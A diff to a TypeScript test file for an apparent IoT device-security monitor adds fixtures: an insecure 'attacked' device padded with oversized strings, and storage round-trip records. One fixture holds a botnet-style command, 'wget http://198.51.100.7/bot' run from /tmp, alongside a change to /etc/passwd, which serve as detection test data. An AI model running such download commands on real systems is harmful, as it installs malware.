@@ -8,6 +8,7 @@ import {
   aFileChange,
   aLogin,
   aProcess,
+  anEvent,
   aRestart,
   someFailedLogins,
 } from '@/lib/testing/some-events'
@@ -35,13 +36,22 @@ const attacked = (): DeviceFacts => {
   const big = Number.MAX_SAFE_INTEGER
   const shared = { shared: true, sensor: 'a' }
   for (let i = 0; i < 60; i += 1) {
+    takeRecord(facts, anEvent(i, { kind: 'error', component: HUGE, message: HUGE }))
     const file = aFileChange(i, `/bin/${String(i)}${HUGE}`)
     const process = aProcess(i, `/tmp/${String(i)}${HUGE}`, `${String(i)}${HUGE}`)
     const records = [file, process, aLogin(i, 'failure', `${String(i)}${HUGE}`), aRestart(i, 'requested')]
     for (const record of records) takeRecord(facts, record)
   }
   const certificates = Array.from({ length: 100 }, (_, i) =>
-    aCertificate({ fingerprint: `${String(i)}${HUGE}`, signatureAlgorithm: HUGE, subject: HUGE, keyBits: 65_536 }),
+    aCertificate({
+      fingerprint: `${String(i)}${HUGE}`,
+      signatureAlgorithm: HUGE,
+      subject: HUGE,
+      keyBits: 65_536,
+      notBefore: 8e12,
+      shared: true,
+      selfSigned: true,
+    }),
   )
   const services = Array.from({ length: 1_000 }, (_, i) => ({
     transport: 'udp' as const,
@@ -49,6 +59,23 @@ const attacked = (): DeviceFacts => {
     name: HUGE,
   }))
   const software = Array.from({ length: 1_000 }, () => ({ name: HUGE, version: HUGE }))
+  const accounts = Array.from({ length: 8 }, (_, i) => `${String(i)}${HUGE}`)
+  takeRecord(
+    facts,
+    aClaim(
+      {
+        firmware: { version: `2${HUGE}`, releasedAt: null },
+        login: { lockout: true, accounts: accounts.slice(4) },
+        boot: { secure: true },
+        updates: { signed: true, rollbackProtected: true },
+        logging: { enabled: true },
+        system: { readOnly: true },
+        credentials: 'unique',
+        debugInterface: false,
+      },
+      60,
+    ),
+  )
   takeRecord(
     facts,
     aClaim(
@@ -60,9 +87,25 @@ const attacked = (): DeviceFacts => {
         services,
         certificates,
         credentials: 'none-required',
-        updates: { signed: false },
+        updates: { signed: false, automatic: false, lastCheckedAt: 8e12, rollbackProtected: false },
         boot: { secure: false },
-        encryption: { tlsMinimum: 'none' },
+        system: { readOnly: false, servicesAsRoot: true, watchdog: false },
+        logging: { enabled: false, remote: false },
+        safety: { rateLimited: false, interlock: false },
+        debugInterface: true,
+        firmware: { version: HUGE, releasedAt: 8e12 },
+        operatingSystem: { name: HUGE, version: HUGE, supportEndsAt: 8e12 },
+        login: { lockout: false, accounts, rotatedAt: 8e12 },
+        network: {
+          addresses: ['100.200.100.200'],
+          egress: 'unrestricted',
+          isolatedFromPeers: false,
+          portForwarding: true,
+          ipForwarding: true,
+          wirelessSecurity: 'open',
+        },
+        messaging: { publish: [`#${HUGE}`], subscribe: [`+${HUGE}`] },
+        encryption: { tlsMinimum: 'none', ciphers: [`RC4-${HUGE}`], storageEncrypted: false, keyStorage: 'encrypted' },
       },
       61,
     ),
@@ -143,7 +186,34 @@ test('facts come back from storage the same, to the last digit', () => {
     aFileChange(11, '/etc/passwd'),
     aProcess(12, '/tmp/bot', 'wget http://198.51.100.7/bot'),
     aRestart(13, 'update'),
-    aClaim({ credentials: 'default', certificates: [aCertificate()] }, 14),
+    anEvent(13, { kind: 'error', component: 'rtsp', message: 'broken pipe' }),
+    aClaim(
+      { firmware: { version: '2.4.2', releasedAt: null }, boot: { secure: true }, login: { accounts: ['a'] } },
+      13,
+    ),
+    aClaim({ boot: { secure: false }, login: { lockout: true, accounts: ['a', 'b'] } }, 13),
+    aClaim(
+      {
+        credentials: 'default',
+        debugInterface: false,
+        firmware: { version: '2.4.1', releasedAt: null },
+        operatingSystem: { name: 'Linux', version: '5.10', supportEndsAt: 1_798_675_200_000 },
+        encryption: { tlsMinimum: '1.2', ciphers: ['RC4-SHA'], storageEncrypted: true, keyStorage: 'hardware' },
+        login: { lockout: true },
+        updates: { signed: true, lastCheckedAt: 1_770_000_000_000 },
+        system: { readOnly: true },
+        logging: { enabled: true },
+        network: { addresses: ['10.0.0.7'], wirelessSecurity: 'wpa3', isolatedFromPeers: false },
+        messaging: { publish: ['site/+/status'], subscribe: ['#'] },
+        safety: { interlock: true },
+        services: [
+          { transport: 'tcp', port: 554, name: 'rtsp', authentication: 'none' },
+          { transport: 'udp', port: 5_353, name: '' },
+        ],
+        certificates: [aCertificate(), aCertificate({ notBefore: 1_600_000_000_000, shared: false, selfSigned: true })],
+      },
+      14,
+    ),
     ...someFlows(60, 11, (i) => ({ to: hostOf(i), port: 23, result: 'unanswered' })),
     ...someFlows(60, 61, (i) => ({ sent: 3_000 + i * 17 })),
     aFlow({ to: '2001:db8::1', transport: 'udp', port: 5_683 }),
